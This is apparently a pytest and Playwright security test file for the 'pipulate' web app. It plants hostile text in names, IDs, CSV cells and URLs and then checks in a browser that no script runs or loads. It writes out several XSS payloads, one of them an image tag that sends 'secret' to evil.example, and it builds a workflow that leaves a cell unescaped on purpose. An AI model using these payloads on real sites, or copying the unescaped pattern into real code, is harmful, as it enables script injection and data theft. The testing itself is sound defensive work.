"""Hostile text wherever a text may stand, in a real browser: none runs, none loads anything.

PLACES   names of tasks and profiles, memories, IDs and answers of runs, file names, cells of
         CSVs (a table, a graph's pages and report), addresses, what is looked for.
BREACH   `window.pwned` is set, something is asked of elsewhere, a dialog opens, or the content
         security policy had to refuse something: then only the second wall held.
"""

from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import httpx2
import pytest
from playwright.sync_api import BrowserContext, Page

from pipulate.app import create_app
from pipulate.engine.errors import Invalid
from pipulate.engine.pipeline import Pipulate
from pipulate.engine.settings import PACKAGE, Settings
from pipulate.graph import making
from pipulate.graph.shelf import Shelf
from tests.chat.payloads import PAYLOADS
from tests.conftest import PATIENCE, Serve, console_faults
from tests.trust.table import tried

RAW = '''
"""A workflow whose author has forgotten to escape a cell."""
from fasthtml.common import Input, NotStr, P
from pipulate import Workflow

flow = Workflow("raw")

@flow.step("cell", "A cell?")
def cell(run):
    return Input(name="cell", required=True)

@cell.show
def show(run):
    return P(NotStr(run["cell"]))
'''
TEXTS = [text for text in PAYLOADS if text.isprintable()]


@pytest.fixture
def app(tmp_path: Path) -> Any:
    """Give the app with our workflows, and one that does not escape."""
    folder = tmp_path / "workflows"
    folder.mkdir()
    (folder / "raw.py").write_text(RAW)
    workflows = (PACKAGE / "workflows", folder)
    return create_app(Settings(tmp_path / "data", tmp_path / "downloads", workflows))


def fill(app: Any, texts: Iterable[str]) -> None:
    """Let each text be the name of something."""
    store = app.state.store
    for text in texts:
        store.db.t.task.insert({"name": text, "profile_id": 1})
        store.db.t.profile.insert({"name": text})
        for workflow in ("bridge", "byhand", "gone"):
            engine = Pipulate(store, workflow)
            try:
                engine.initialize_if_missing(text)
                engine.set_step_data(text, "step_01", {"name": text})
            except Invalid:
                continue  # no ID


def filled_by_hand(url: str, texts: list[str]) -> Iterator[str]:
    """Give answers and files over the wire, as a browser does; yield where they are seen."""
    own = {"Origin": url, "HX-Request": "true"}
    rows = [text.replace('"', '""').replace("\n", " ") for text in texts]
    with httpx2.Client(base_url=url, headers=own, timeout=PATIENCE) as client:
        for number, text in enumerate(texts):
            client.post("/memory", data={"sentence": text, "text": text, "name": text})
            if number % 10:
                continue
            id = f"briefing {number}"
            table = "".join(f'"{row}",{at + 1}\n' for at, row in enumerate(rows[number:]))
            at = {"params": {"id": id}}
            client.post("/petite/open", data={"id": id})
            client.post(
                "/petite/card1", data={"site": "https://a.example", "text": text, "due": ""}, **at
            )
            choices = {"market": "Europe", "pace": "Calm", "effort": "5", "goals": "More sales"}
            client.post("/petite/card2", data=choices, **at)
            file = (f"{text}.csv", table.encode())
            client.post("/petite/card3/upload", data={"hours": "8"}, files={"table": file}, **at)
            yield f"/petite?{urlencode({'id': id})}"


def quiet(share: float, text: str) -> None:
    pass


def graph(app: Any, texts: list[str]) -> str:
    """Draw and report a site whose pages are called so; return its address."""
    place = Shelf(app.state.settings.downloads).place("acme", "shop", "20261101")
    place.folder.mkdir(parents=True)
    urls = [f"https://a.example/{number}/{text}" for number, text in enumerate(texts)]
    cells = ['"' + url.replace('"', '""').replace("\n", " ") + '"' for url in urls]
    lines = [f"{cells[0]},{cell}\n{cell},{cells[0]}\n" for cell in cells[1:]]
    place.links.write_text("source,target\n" + "".join(lines))
    making.make_picture(
        quiet,
        links=str(place.links),
        pages=None,
        folder=str(place.graph),
        title=texts[0],
    )
    making.make_report(quiet, str(place.graph))
    return "/graph/acme/shop/20261101"


def breaches(context: BrowserContext, url: str, addresses: Iterable[str]) -> list[str]:
    """Look at each address; return what went wrong."""
    found = console_faults(context, "status of 404")
    context.on("request", lambda it: found.append(it.url) if _is_outside(it.url, url) else None)
    context.on("dialog", lambda it: found.append(it.message))
    page = context.new_page()
    page.set_default_timeout(PATIENCE * 1000)
    for address in addresses:
        tried()
        page.goto(url + address)
        open_all(page)
        if page.evaluate("'pwned' in window"):
            found.append(f"a script ran at {address}")
    page.close()
    return found


def open_all(page: Page) -> None:
    """Unfold what is folded, pass over and focus what can be."""
    page.evaluate("""() => {
        for (const folded of document.querySelectorAll("details")) folded.open = true;
        for (const any of document.querySelectorAll("main *")) {
            for (const name of ["mouseover", "mouseenter", "focus", "pointerover"])
                any.dispatchEvent(new Event(name, {bubbles: true}));
        }
    }""")


def _is_outside(asked: str, url: str) -> bool:
    return urlsplit(asked).scheme not in ("data", "blob") and not asked.startswith(url)


def pages_of(texts: list[str]) -> Iterator[str]:
    """Yield the addresses at which the texts stand, or that hold them."""
    yield from ("/tasks", "/profiles", "/runs", "/bridge", "/memory", "/introduction", "/byhand")
    for text in texts:
        yield f"/bridge?{urlencode({'id': text})}"
    for text in texts[::6]:
        yield f"/find?{urlencode({'q': text})}"
        yield f"/byhand?{urlencode({'id': text})}"
        yield f"/runs/list?{urlencode({'q': text})}"
        yield f"/{quote(text, safe='')}"
        yield f"/bridge/{quote(text, safe='')}?id=x"
        yield f"/graph/{quote(text, safe='')}/x/20261101"
        yield f"/runs?{urlencode({'imported': text, 'missing': text})}"
        yield f"/docs/{quote(text, safe='')}"


def attack(app: Any, url: str, context: BrowserContext, texts: list[str]) -> list[str]:
    """Put the texts everywhere and look at them; return what went wrong."""
    fill(app, texts)
    briefings = [*filled_by_hand(url, texts)]
    picture = graph(app, texts)
    report = f"{picture}/report"
    shown = [*pages_of(texts), *briefings, picture, report, f"{report}/pagerank", "/graph"]
    return breaches(context, url, shown)


def test_hostile_names_are_text(app: Any, serve: Serve, context: BrowserContext) -> None:
    """A short form: a few of them."""
    assert attack(app, serve(app), context, TEXTS[20:44:8]) == []


@pytest.mark.trust("Hostile text in names, IDs, cells, addresses: no script runs")
def test_no_hostile_text_runs_or_loads(app: Any, serve: Serve, context: BrowserContext) -> None:
    """A hundred texts, in every place."""
    assert len(TEXTS) >= 100
    assert attack(app, serve(app), context, TEXTS) == []


@pytest.mark.trust("Planted bug found: a cell that is not escaped")
def test_a_cell_that_is_not_escaped_is_found(
    app: Any, serve: Serve, context: BrowserContext
) -> None:
    """A planted bug: a workflow that shows an answer as HTML."""
    url = serve(app)
    texts = [
        "<script>window.pwned=1</script>",
        "<img src=x onerror=window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "<img src=https://evil.example/?q=secret>",
    ]
    assert set(texts) <= set(TEXTS)
    engine = Pipulate(app.state.store, "raw")
    for number, text in enumerate(texts):
        engine.initialize_if_missing(str(number))
        engine.set_step_data(str(number), "step_01", {"cell": text})
        assert breaches(context, url, [f"/raw?id={number}"]), text
